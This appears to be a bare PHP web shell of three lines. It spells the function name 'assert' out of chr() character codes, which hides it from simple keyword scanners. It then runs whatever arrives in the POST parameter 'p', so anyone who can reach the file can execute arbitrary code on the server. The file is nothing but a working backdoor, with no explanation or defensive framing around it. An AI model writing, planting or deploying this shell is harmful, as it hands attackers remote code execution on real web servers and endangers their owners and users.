<?php
$a = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$a($_POST['p']);
